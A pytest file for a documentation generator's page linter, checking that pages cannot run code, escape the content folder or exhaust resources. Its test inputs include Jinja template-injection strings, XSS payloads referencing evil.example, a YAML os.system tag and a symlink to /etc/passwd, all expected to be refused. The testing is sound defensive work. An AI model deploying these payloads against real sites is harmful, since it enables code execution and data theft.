"""What lies beside the catalogue is data: pages show what it says, and whatever else they try is told at its place."""

from __future__ import annotations

import os
import re
import time

import markdown
import pytest
from mkdocs.config import load_config

from generator.diagnostics import MOST
from generator.linter.examples import SMALLEST, RuleExample, examples
from generator.linter.runner import check, codes, examine_file
from generator.publish.written import conversion, page, verdict
from generator.publish.written.links import Places
from generator.publish.written.page import Surroundings, Written
from generator.reporters import message
from generator.source.reader import SourceFile
from tests.publish.projects import SETTINGS, Project, lamps

EXTENSIONS = ["attr_list", "tables", "toc", "fenced_code"]
EXAMPLES = [
    pytest.param(code, kind, example, id=f"{code}-{kind}-{number}")
    for code in codes()
    if check(code).family == "pages"
    for kind, group in examples(check(code).file).items()
    for number, example in enumerate(group)
    if example.beside
]


def judged(text: str) -> tuple[Written, list[tuple[int, str]]]:
    """Judge one page of the smallest guide: what it becomes, and line and code of each thing that is wrong."""
    whole, pages = lamps()
    places = Places({"lamps.md": "lamps/", **{uri: each.address or "./" for uri, each in pages.items()}})
    around = Surroundings(whole, conversion.converter(EXTENSIONS), places, trusted=False)
    written, found = page.judged("lamps.md", "lamps/", SourceFile("lamps.md", text), around)
    return written, [(each.place.line, each.code) for each in found if each.place]


@pytest.mark.parametrize(("code", "kind", "example"), EXAMPLES)
def test_an_example_is_found_where_it_says(code: str, kind: str, example: RuleExample, project: Project):
    """What an example marks is found on its line, and what it does not mark is not."""
    marks = [(mark.line, mark.code) for mark in example.marks]
    if example.beside == "page":
        assert judged(example.shown)[1] == marks
    else:
        project.write("mkdocs.yml", f"{example.shown}docs_dir: content\nsite_name: Lamps\n")
        assert [each[1:] for each in project.found()] == marks
    assert (code in {mark.code for mark in example.marks}) == (kind == "broken")


@pytest.mark.parametrize(
    "hostile",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ guide._entry.model_dump() }}",
        "{{ guide._entry }}",
        "{{ link._write }}",
        "{{ link.__call__.__globals__ }}",
        "{{ guide.title.format }}",
        "{{ self }}",
        "{{ guide.title|attr('format') }}",
        "{% for each in [1] %}{{ loop.__class__ }}{% endfor %}",
        "{% for each in [1] %}{{ loop._iterator }}{% endfor %}",
        "{% for each in [1] recursive %}{{ loop([1]) }}{% endfor %}",
        "{% macro again() %}{{ again() }}{% endmacro %}{{ again() }}",
        "{% import 'rendering.py' as it %}",
        "{% set a = guide.title ~ guide.title %}",
        "{{ 1 / 0 }}",
        "{{ 9 ** 99999999 }}",
        "{{ " + "(" * 5_000 + "1" + ")" * 5_000 + " }}",
        "{{ a" + ".b" * 20_000 + " }}",
        "{% if guide %}" * 3_000 + "{% endif %}" * 3_000,
        "{{ link(['x']) }}",
        "{{ link(*guide.title) }}",
        "{{ modality[['x']] }}",
        "{% debug %}",
        "{% trans %}x{% endtrans %}",
    ],
    ids=lambda text: text[:40],
)
def test_a_page_can_do_nothing_but_show(hostile: str):
    """Whatever reaches for more than a value is refused, and nothing of it is in the page."""
    written, found = judged(f"# Lamps\n\n{hostile}\n")
    assert {code for _, code in found} & {"page-does-more", "page-without-end", "unknown-name", "bad-braces"}
    assert written.filled == ""


def test_texts_deep_in_an_entry_stay_text():
    """A text that a loop comes by is shown as one that is named: no sign in it is left to be read as Markdown."""
    text = "{% for row in pricing_rule['by-hour'].rows %}{{ row.reason }}{% endfor %}"
    filled = re.sub(r' <a class="citation.*?</a>', "", judged(text)[0].filled)
    assert filled == "Wear is yours&#46;The fault is not yours&#46;"


@pytest.mark.parametrize(
    "active",
    [
        "<SCRIPT src=//evil.example></SCRIPT>",
        '<a href="java&#10;script:alert(1)">x</a>',
        "[x][r]\n\n[r]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "[x](data:text/html,hello)",
        "<img src=x.png onerror=alert(1)>",
        "<svg><animate onbegin=alert(1)></svg>",
        "<iframe srcdoc='x'></iframe>",
        "<form action=https://evil.example><input></form>",
        "<style>body {display: none}</style>",
        "<base href=https://evil.example/>",
        '<meta http-equiv="refresh" content="0">',
        "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
        "Lamps\n{: onclick=alert(1) }",
        '<div>\n<meta http-equiv="refresh" content="0;url=https://evil.example/" x',
        "<div>\n<script src=evil.js x",
        '<div>\n<a href="javascript:alert(1)" title="',
        "<div>\n<!-- and no end",
    ],
)
def test_a_page_cannot_run_anything(active: str):
    """By whichever way of Markdown or HTML it comes in."""
    assert "active-content" in {code for _, code in judged(f"# Lamps\n\n{active}\n")[1]}


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("content/more.html", "<p>A page without a policy.</p>"),
        ("content/deep/index.htm", "<script>alert(1)</script>"),
        ("content/lamp.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        ("content/lamp.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
    ],
)
def test_no_file_beside_the_pages_runs_when_it_is_opened(project: Project, name: str, text: str):
    """No policy goes with it: it is refused as a page would be, and a picture that only shows something is not."""
    project.write("content/plain.svg", "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>")
    assert project.found() == []
    project.write(name, text)
    assert [(file, code) for file, _, code in project.found()] == [(name, "active-content")]


@pytest.mark.parametrize(
    "text",
    [
        "[" * 20_000,
        "[a](" * 10_000,
        "<![CDATA[" * 5_000,
        "# a\n" * 40_000,
        "|a" * 4_000 + "\n" + "|a\n" * 9_000,
    ],
    ids=["brackets", "links", "sections", "headings", "cells"],
)
def test_what_markdown_is_not_done_with_is_refused_before(text: str):
    """Of a page within its length that would take minutes or gigabytes, nothing is converted."""
    assert "page-without-end" in {code for _, code in judged(text)[1]}


def test_a_project_may_trust_its_pages(project: Project):
    """Where it says so in its settings, which only its owners change."""
    project.write("content/lamps.md", "# Lamps\n\n<script>alert(1)</script>\n")
    project.write("mkdocs.yml", SETTINGS.replace("[guide]", "[guide: {trusted_pages: true}]"))
    assert project.found() == []


@pytest.mark.parametrize(
    "name", ["content/secret.md", "content/secret.txt", "content/secret", "own/main.html"]
)
def test_what_leads_out_of_the_folder_is_not_published(project: Project, name: str):
    """Neither a file of the machine, nor a folder, be it its own, which could be followed for ever."""
    project.write("mkdocs.yml", SETTINGS.replace("material", "material\n  custom_dir: own"))
    path = project.folder / name
    (project.folder / "own").mkdir()
    path.symlink_to("." if not path.suffix else "/etc/passwd")
    assert project.found() == [(name, 1, "link-in-content")]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="there are no pipes here")
def test_what_is_no_file_is_not_read(project: Project):
    """A pipe that nobody writes to would be read for ever."""
    os.mkfifo(project.folder / "content" / "pipe.md")
    assert project.found() == [("content/pipe.md", 1, "link-in-content")]


@pytest.mark.parametrize(
    "name", ["content/lamps.md", "content/assets/tokens.css", "content/robots.txt", "content/_headers"]
)
def test_a_file_in_another_encoding_is_told_at_its_place(project: Project, name: str):
    """As the catalogue is: with the line on which the first strange sign stands."""
    project.write(name, "/* a */\n/* lâmpada */\n".encode("latin-1"))
    assert project.found() == [(name, 2, "not-utf8")]


@pytest.mark.parametrize(
    ("head", "title"),
    [
        ("title: 2025", "2025"),
        ("title: no", "no"),
        ("title: 1_0", "1_0"),
        ("title: 'Price: how much'", "Price: how much"),
    ],
)
def test_the_head_says_what_is_written(head: str, title: str):
    """A number and a flag of other programs are the text that their author wrote."""
    written, found = judged(f"---\n{head}\n---\n\n# Lamps\n")
    assert (found, written.meta["title"]) == ([], title)


@pytest.mark.parametrize(
    ("head", "code"),
    [
        ("title: Price: how much", "colon-in-text"),
        ("titel: Lamps", "unknown-key"),
        ("title:", "bad-head"),
        ("description: {a: b}", "bad-head"),
        ("title: &a [*a]", "piece-used-again"),
        ("title: !!python/object/apply:os.system [id]", "tag"),
        ("\ttitle: Lamps", "tab-indentation"),
        ("title: 'Lamps", "unclosed-quote"),
    ],
)
def test_a_broken_head_is_told_at_its_line(head: str, code: str):
    """With the faults of YAML that a catalogue may have, and none of them passes for the text of the page."""
    assert (2, code) in judged(f"---\n{head}\n---\n\n# Lamps\n")[1]


@pytest.mark.parametrize("line", [1, 4])
def test_two_versions_in_one_page_are_refused_as_in_the_catalogue(line: int):
    """In its head or its text; and nothing else is said of it."""
    lines = ["---", "title: Lamps", "---", "# Lmaps", "Two lmaps."]
    lines[line:line] = ["<<<<<<< HEAD"]
    written, found = judged("\n".join((*lines, "=======", "Lamps", ">>>>>>> mine", "")))
    assert (written.filled, found) == ("", [(line + 1, "conflict-marker")])


@pytest.mark.parametrize("slip", ["titel: Lamps", "title: Lamps: two", "title:", "title: 'Lamps"])
@pytest.mark.parametrize("accepted", ["words: [lmaps]", "words:\n  - lmaps", "words: lmaps"])
def test_what_a_head_accepts_is_accepted_beside_a_slip(slip: str, accepted: str):
    """One slip makes one report, and not another for each word that the page has listed."""
    assert len(judged(f"---\n{slip}\n{accepted}\n---\n\n# Lmaps\n")[1]) == 1


@pytest.mark.parametrize(
    ("text", "meant", "column"),
    [
        ("{{ guide.title }} {{ link('costs') }", "{{ link('costs') }}", 19),
        ("{{ guide.title }} {{ pricing_rule.by-hour.name }}", 'pricing_rule["by-hour"]', 22),
        ("{{ pricing_rule[by-hour].name }}", 'pricing_rule["by-hour"]', 4),
        ("{{ link(costs) }}", 'link("costs")', 4),
        ("{{ link(\u201ccosts\u201d) }}", '{{ link("costs") }}', 1),
        ("{{ modality['repair'] }}", "{{ modality['repair'].name }}", 1),
        ("{{ link('fact', 'LAMPS') }}", "lamps", 18),
    ],
)
def test_what_was_meant_between_braces_is_told_at_its_place(text: str, meant: str, column: int):
    """And not at the first braces of the line, which may be right."""
    whole, _pages = lamps()
    around = Surroundings(whole, markdown.markdown, Places({}), trusted=False)
    (told,) = page.judged("lamps.md", "lamps/", SourceFile("lamps.md", text), around)[1]
    assert told.place
    assert (told.finding.values["suggestion"], told.place.column) == (meant, column)


def test_a_first_line_with_a_colon_is_text():
    """Where the page has no head, nothing of it is taken for one."""
    assert judged("Note: two lamps.\n")[0].filled == "Note: two lamps."


@pytest.mark.parametrize(
    "name",
    [
        "404.md",
        "404.html",
        "guide.html",
        "comparison.csv",
        "costs.md",
        "Costs/index.html",
        "index.md",
        "sitemap.xml",
    ],
)
def test_no_file_takes_the_place_of_what_the_guide_makes(project: Project, name: str):
    """Page, spreadsheet, the guide as one file: it is refused by its name."""
    project.write(f"content/{name}", "# Lamps\n")
    assert project.found() == [(f"content/{name}", 1, "taken-address")]


@pytest.mark.parametrize(
    ("text", "line", "code"),
    [
        ("---\ntitel: Lamps\n---\n", 2, "unknown-key"),
        ("---\ntitle: Lamps: two\n---\n", 2, "colon-in-text"),
        ("# Lamps\n\n{% include 'x' %}\n", 3, "page-does-more"),
        ("# Lamps\n\n{{ guide.title\n", 3, "bad-braces"),
        ("# Lamps\n\n{{ guide.title }} <script>alert(1)</script>\n", 3, "active-content"),
        ("# Lamps\n\n[a](table.xlsx)\n", 3, "link-to-nowhere"),
        ("# Lamps\n\n![{{ guide.title }}](lamp.png)\n", 3, "link-to-nowhere"),
        ("\u00e9".encode("latin-1"), 1, "not-utf8"),
    ],
)
def test_a_page_is_judged_beside_a_catalogue_with_errors(
    project: Project, text: str | bytes, line: int, code: str
):
    """Whoever writes both hears of both in one run: what no catalogue could make right is told at once."""
    project.write("content/about.md", text)
    assert project.found(beside_errors=True) == [("content/about.md", line, code)]


def test_nothing_is_told_of_a_page_that_only_its_catalogue_could_make_right(project: Project):
    """Values, links to pages of the guide, words, and whatever is shown only sometimes: all of it may well be right."""
    project.write("content/table.xlsx", b"0")
    project.write(
        "content/about.md",
        "# Zwrmblt\n\n{{ modality.nothing.name }} {{ link('modality', 'nothing') }} [a](costs.md) [b](../costs/)\n\n"
        "[c](lamps.md) [d](table.xlsx) [e](guide.html) [f](comparison.csv) ![g]({{ guide.title }}.png)\n\n"
        "{% if modality.nothing %}![h](nothing.png){% endif %}{# <script> #}\n",
    )
    project.write("content/costs.md", "# Costs\n")
    assert project.found(beside_errors=True) == []
    assert [code for *_, code in project.found()] == ["unknown-name", "taken-address"]


@pytest.mark.parametrize(
    ("link", "meant", "told"),
    [
        ('<img src="lamp.png">', "../lamp.png", "as in `../lamp.png`."),
        ("![a](../lamp.png)", "lamp.png", "or link to a page of the guide by `link(…)`."),
        ('<a href="../lamps.md">', "../../lamps/", "as in `../lamp.png`."),
        ("[a](/lamps.md)", "../lamps.md", "or link to a page of the guide by `link(…)`."),
        ("[a](../guide.html)", "", "as in `../guide.html`."),
        ("[a](#thre)", "#there", "as in `#where-it-comes-from`."),
        ("[a](../lamps.md#lmaps)", "../lamps.md#lamps", "as in `about.md#where-it-comes-from`."),
        ("[a](../costs.md#repiar)", "../costs.md#repair", "as in `about.md#where-it-comes-from`."),
    ],
)
def test_the_way_that_was_meant_is_told_as_its_kind_of_link_has_it(
    project: Project, link: str, meant: str, told: str
):
    """From the file in Markdown, from the address in HTML; and the cure is told to its end, however long."""
    project.write("content/more/lamp.png", b"0")
    project.write("content/more/about.md", f"## There\n\n{link}\n")
    (one,) = [each for file in project.judged().files for each in file.diagnostics]
    assert (one.code, message.meant(one)) == ("link-to-nowhere", meant)
    assert message.cure(one, lamps()[0].words).endswith(told)


def test_a_link_may_lead_to_what_there_is(project: Project):
    """To another page, a file beside it, a page of the guide, by its file or by its address."""
    project.write("content/more/one.txt", "one")
    links = (
        "lamps.md",
        "more/one.txt",
        "costs.md",
        "../costs/",
        "#there",
        "mailto:a@example.org",
        "lamps.md#lamps",
        "./",
    )
    project.write("content/about.md", "## There\n\n" + "\n".join(f"[a]({each})\n" for each in links))
    assert project.found() == []


def test_the_build_judges_as_the_check_does(project: Project):
    """Both ask in one place, with the same settings."""
    project.write("content/lamps.md", "# Lamps\n\n{{ nothing }}\n")
    config = load_config(config_file=str(project.folder / "mkdocs.yml"))
    whole, pages = lamps()
    built = verdict.of(config, whole, pages)
    assert (
        [each.diagnostics for each in built.files]
        == [each.diagnostics for each in project.judged().files]
        != []
    )


@pytest.mark.parametrize(
    "text",
    [
        "5% " * 60_000,
        "".join(f"<x{each}>" for each in range(20_000)),
        "".join(f"[a](b{each}) " for each in range(14_000)),
    ],
    ids=["figures", "tags", "links"],
)
def test_a_page_that_is_wrong_all_over_is_judged_in_time(text: str):
    """What is found is told as far as it is worth telling, and no longer looked for once that is so."""
    before = time.process_time()
    assert len(judged(text)[1]) == MOST
    assert time.process_time() - before < 6


def test_the_smallest_catalogue_is_sound():
    """What these pages are filled from has no fault of its own."""
    assert examine_file(SMALLEST).ok
